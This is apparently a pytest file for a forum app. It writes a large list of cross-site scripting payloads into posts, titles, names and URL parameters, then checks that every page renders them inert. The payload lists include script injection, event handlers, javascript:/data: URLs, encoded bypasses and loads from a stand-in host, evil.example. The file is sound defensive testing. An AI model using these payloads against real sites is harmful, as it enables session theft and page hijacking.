"""Cross-site scripting: a corpus of vectors, written wherever members and staff write text
(post bodies and edits, topic titles, first and last names, category names and
descriptions, suspension and screening reasons, search queries, URL arguments), then every
page and JSON answer that shows it, walked from the URL map as a visitor, a member, a
moderator and an admin, parsed like a browser parses it: no script but Parlor's own, no
event handler, no `javascript:`/`data:` URL, no style, no frame, object, base or meta
refresh. The vectors must also be seen on the pages, or the walk proves nothing."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from helpers import at, ok

from forum.content import posting
from forum.content.markdown import render
from forum.db import db
from forum.net import parse_ip
from forum.users.models import User
from forum.web.forms import POSTS_PER_PAGE

from .conftest import send
from .inert import html_fields, problems
from .routes import ROUTES, calls_for, key, pairs
from .world import IPS, World
from .world import world as fresh_world

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=/x onerror=alert(1)>",
    '<img src="/user_avatar/a/1/x.png" onload="alert(1)">',
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="9">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href="jav&#x0A;ascript:alert(1)">a</a>',
    '<a href="jav\tascript:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">a</a>',
    '<a href="&#0000106avascript:alert(1)">a</a>',
    '<a href=" &#14;  javascript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    "<a/href=javascript:alert(1)>a</a>",
    '<a href="x" onmouseover="alert(1)"x="">a</a>',
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](&#x6A;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[a](https://example.com "title" onclick="alert(1)")',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<table><td background="javascript:alert(1)">x</td></table>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<img """><script>alert(1)</script>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]
# For text that is never Markdown (titles, names, reasons, URLs): break out of attributes
# and elements rather than trick a parser.
BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
]
# One string for every context a URL argument or query parameter can land in: a URL
# attribute (the scheme first), a quoted attribute, text, a title or a textarea.
REFLECTED = [
    "javascript:alert(1)//\"'></title></textarea><script>alert(1)</script><img src=x onerror=a>",
    "data:text/html,<svg onload=alert(1)>'\"><base href=//evil.example/>",
]
# Query parameters routes read (search, pages, filters, sign-in), all set at once.
QUERY_NAMES = (
    "q", "term", "page", "per_page", "before", "next", "username", "login", "remember",
    "token", "error", "action", "actor", "subject", "since", "until", "ip", "category",
)  # fmt: skip


def marked(n: int, vector: str) -> str:
    return f"XSS{n:03d} {vector}"


def posted(n: int, vector: str) -> str:
    """A post body: its own marker, so the walk can tell the body was shown."""
    return f"POST{n:03d} {vector} (a vector)"


def packed(prefix: str, limit: int) -> list[str]:
    """The breakouts and vectors, marked, packed into strings of at most `limit` characters."""
    out, current = [], prefix
    for n, vector in enumerate(BREAKOUTS + VECTORS):
        item = marked(n, vector).replace("\n", " ") + " "
        if len(current) + len(item) > limit:
            out.append(current.strip())
            current = prefix
        current += item
    out.append(current.strip())
    return [s for s in out if s != prefix.strip()]


TITLES = packed("T ", 255)
NAMES = packed("N ", 255)
RAWS = {f"p{i}": posted(i, v) for i, v in enumerate(VECTORS[:4], 1)}


def _write_everywhere(w: World) -> None:
    """Every other place member or staff text goes, with the vectors in it."""
    alice, bob, mia, ada = (w.member(n) for n in ("alice", "bob", "mia", "ada"))
    # One topic per packed title, the post vectors shared out between them (a page each),
    # written by the posting service itself: the same rendering, without a request each.
    with w.app.app_context():
        author, replier = (db.session.get(User, w.ids[n]) for n in ("alice", "bob"))
        topics = len(TITLES) - 1
        for i, title in enumerate(TITLES[1:]):
            opener = posted(i, VECTORS[i])
            post = posting.create_topic(
                author, title, opener, w.category_id, parse_ip(IPS["alice"])
            )
            for n in range(i, len(VECTORS), topics):
                raw = posted(n, VECTORS[n])
                posting.create_reply(replier, post.topic_id, raw, parse_ip(IPS["bob"]))
        db.session.commit()
    edit = {"post": {"raw": marked(90, VECTORS[0]) + " edited", "edit_reason": TITLES[0][:255]}}
    ok(alice.put(f"/posts/{w.posts['p2']}.json", json=edit, **at(IPS["alice"])))
    pairs_of_names = zip(NAMES, NAMES[1:] + NAMES, strict=False)
    for who, (first, last) in zip((alice, bob, mia, ada), pairs_of_names, strict=False):
        me = who.get("/session/current.json").get_json()["current_user"]["username"]
        ok(who.put(f"/u/{me}.json", json={"first_name": first, "last_name": last}))
    for n, vector in enumerate(BREAKOUTS[:4]):
        name = marked(n, vector)[:50]
        ok(ada.post("/categories.json", json={"name": name, "description": NAMES[n % len(NAMES)]}))
    reason = NAMES[0]
    ok(
        mia.put(
            f"/admin/users/{w.ids['bob']}/suspend.json",
            json={"suspend_until": "2031-01-01T00:00:00Z", "reason": reason},
        )
    )
    ok(
        ada.post(
            "/admin/screened-ips.json", json={"ip_address": "198.51.100.128/25", "reason": reason}
        )
    )
    ok(mia.get("/admin/ip-lookup.json", query_string={"q": "203.0.113.0/24"}, **at(IPS["mia"])))


@pytest.fixture
def xss_world(app) -> World:
    return fresh_world(app, title=TITLES[0], raws=RAWS, extend=_write_everywhere)


def check(response: Any, what: str) -> list[str]:
    """What is wrong with one answer (empty: inert). Collects the page's text for later."""
    mimetype = response.mimetype
    body = response.get_data(
        as_text=mimetype.startswith(("text/", "application/json", "image/svg"))
    )
    if mimetype == "text/html":
        return [f"{what}: {p}" for p in problems(body)]
    if mimetype == "application/json":
        assert response.content_type == "application/json; charset=utf-8", what
        try:
            data = json.loads(body)
        except ValueError:
            return [f"{what}: not JSON"]
        found = []
        if response.request.path == "/openapi.json":
            return []  # the API's own description, no member text in it
        for where, value in html_fields(data):
            found += [
                f"{what} {where}: {p}" for p in problems(f'<div class="cooked">{value}</div>')
            ]
        return found
    if mimetype == "image/svg+xml":
        root = ET.fromstring(body)  # noqa: S314  (Parlor's own SVG)
        bad = [
            el.tag
            for el in root.iter()
            if el.tag.rsplit("}", 1)[-1] in ("script", "foreignObject")
            or any(a.lower().startswith("on") for a in el.attrib)
        ]
        return [f"{what}: SVG holds {bad}"] if bad else []
    # CSV reports, ZIP exports, pictures, the stylesheet and script: never HTML.
    assert mimetype in (
        "text/csv", "application/zip", "image/png", "text/css", "text/javascript",
        "application/javascript", "text/plain",
    ), (what, mimetype)  # fmt: skip
    return []


def visible_text(response: Any) -> str:
    if response.mimetype != "text/html":
        return ""
    return re.sub(r"<[^>]*>", " ", response.get_data(as_text=True))


GETS = [(r, m) for r, m in pairs() if m == "GET" and key(m, r.endpoint) in ROUTES]


# -- the sanitiser alone -------------------------------------------------------------------


@pytest.mark.parametrize("vector", VECTORS)
def test_the_renderer_leaves_no_vector_alive(vector: str) -> None:
    cooked = render(marked(1, vector) + " and some more text")
    assert problems(f'<div class="cooked">{cooked}</div>') == [], cooked


def test_the_checker_sees_each_kind_of_attack() -> None:
    """The checks can fail: raw vectors, unsanitised, are each caught."""
    caught = {v for v in VECTORS if problems(f'<div class="cooked">{v}</div>')}
    harmless = {  # text a browser shows as text, or links the renderer handles itself
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "`<script>alert(1)</script>`",
        "[a](javascript:alert(1))",
        "[a](JAVASCRIPT:alert(1))",
        "[a](javascript&#58;alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](&#x6A;avascript:alert(1))",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        '[a](https://example.com "title" onclick="alert(1)")',
        "<javascript:alert(1)>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    }
    assert set(VECTORS) - caught - harmless == set()
    assert problems('<a href="/x">fine</a><p title="javascript:alert(1)">fine</p>') == []


# -- every page, with the vectors written everywhere -------------------------------------


def test_no_page_or_answer_runs_member_text(app, xss_world) -> None:
    w = xss_world
    found: list[str] = []
    seen_text = []
    for rule, method in GETS:
        route = ROUTES[key(method, rule.endpoint)]
        # Staff see everything members see and more; the actor sees their own pages.
        viewers = dict.fromkeys([None, "mia", route.actor])

        for call in calls_for(rule, method, w):
            for who in viewers:
                r = send(w, who, call)
                assert r.status_code < 500, (who, str(call))
                found += check(r, f"{who or 'visitor'} {call}")
                seen_text.append(visible_text(r))
    # Every topic's page, every profile and every category, as a visitor and as staff.
    visitor = app.test_client()
    latest = ok(visitor.get("/latest.json"))["topic_list"]["topics"]
    categories = ok(visitor.get("/categories.json"))["category_list"]["categories"]
    pages = [
        f"/t/{t['slug']}/{t['id']}?page={page}"
        for t in latest
        for page in range(1, (t["posts_count"] - 1) // POSTS_PER_PAGE + 2)
    ]
    pages += [f"/t/{t['id']}.json" for t in latest]
    pages += [f"/c/{c['slug']}/{c['id']}" for c in categories]
    pages += [f"/u/{n}" for n in ("alice", "bob", "mia", "ada")]
    pages += [f"/search?q=XSS{n:03d}" for n in range(0, len(VECTORS), 7)]
    pages += [
        "/admin/users/bob",
        "/admin/audit-log",
        "/admin/screened-ips",
        "/admin/audit-log.json",
    ]
    for url in pages:
        clients = [visitor, w.member("ada" if url.startswith("/admin/") else "mia")]
        for client in clients:
            r = client.get(url)
            assert r.status_code < 500, url
            found += check(r, url)
            seen_text.append(visible_text(r))
    assert found == [], "\n".join(found[:40])

    # The walk showed the vectors: every one of them reached some page as text.
    text = " ".join(seen_text)
    missing = [n for n in range(len(BREAKOUTS + VECTORS)) if f"XSS{n:03d}" not in text]
    assert missing == [], missing
    unseen = [n for n in range(len(VECTORS)) if f"POST{n:03d}" not in text]
    assert unseen == [], unseen  # every post body was on a page the walk checked
    assert len(latest) >= len(TITLES)


def test_input_reflected_from_the_url_is_inert(app, xss_world) -> None:
    """Every GET route with a breakout in each string URL argument and query parameter."""
    w = xss_world
    found: list[str] = []
    for rule, method in GETS:
        for call in calls_for(rule, method, w)[:1]:
            for vector in REFLECTED:
                url = call.url
                for name in rule.arguments:
                    if name in ("username", "slug", "version", "filename"):
                        url = url.replace(_sample(w, rule, name), _quote(vector), 1)
                query = {**call.query, **dict.fromkeys(QUERY_NAMES, vector)}
                for who in (None, "mia"):
                    client = app.test_client() if who is None else w.member(who).client
                    r = client.get(url, query_string=query)
                    assert r.status_code < 500, (who, url, vector)
                    found += check(r, f"{who} {url} {vector}")
    assert found == [], "\n".join(found[:40])


def _sample(w: World, rule: Any, name: str) -> str:
    from .routes import ARGUMENTS

    return str(ARGUMENTS[name](w, rule))


def _quote(text: str) -> str:
    from urllib.parse import quote

    return quote(text, safe="")
